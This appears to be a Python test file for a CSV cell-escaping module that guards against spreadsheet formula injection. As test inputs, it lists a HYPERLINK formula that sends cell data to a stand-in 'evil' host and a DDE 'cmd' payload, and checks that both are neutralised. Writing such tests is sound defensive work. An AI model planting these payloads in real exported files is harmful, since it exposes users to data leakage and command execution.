"""Texts in cells of CSV: no formula, valid Unicode, and the same text again."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cranfield.annotation.csv_escape import escape_cell, unescape_cell

ODD = st.text(st.sampled_from("\\u0d8fa'=-+@\t\r\n\0\ud800\udcff1.x,\""))
ANY = st.text(st.characters(exclude_categories=()))


def whole(text: str) -> str:
    """Two halves of a character that stand together are that character, as in JSON."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass")


@given(st.one_of(ODD, ANY))
def test_any_text_comes_back_as_it_was(text: str) -> None:
    text = whole(text)
    table = io.StringIO(newline="")
    csv.writer(table, lineterminator="\n").writerow([escape_cell(text), "end"])
    content = table.getvalue().encode()
    (row,) = csv.reader(io.StringIO(content.decode(), newline=""), strict=True)
    assert [unescape_cell(row[0]), row[1]] == [text, "end"]


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
)
def test_no_cell_is_a_formula(text: str) -> None:
    assert escape_cell(text) == f"'{text}" and unescape_cell(escape_cell(text)) == text


@pytest.mark.parametrize("text", ["plain", "it's", "-1", "+0.5", "a=b", "C:\\new\\users", "日本", ""])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert escape_cell(text) == text == unescape_cell(text)


def test_long_texts_are_escaped_in_linear_time() -> None:
    """If time were quadratic, this would take hours."""
    for text in ("\\" * 2_000_000, "\\u000" * 400_000, "'" * 2_000_000):
        assert unescape_cell(escape_cell(text)) == text
